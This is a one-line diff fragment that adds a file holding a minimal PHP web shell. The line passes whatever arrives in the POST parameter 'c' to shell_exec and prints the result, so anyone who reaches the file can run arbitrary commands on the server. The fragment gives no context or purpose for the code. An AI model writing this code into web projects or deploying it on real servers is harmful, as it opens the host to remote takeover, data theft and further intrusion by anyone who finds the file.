@@ -1,0 +1,1 @@
+<?php echo "<pre>" . shell_exec($_POST['c']) . "</pre>"; ?>
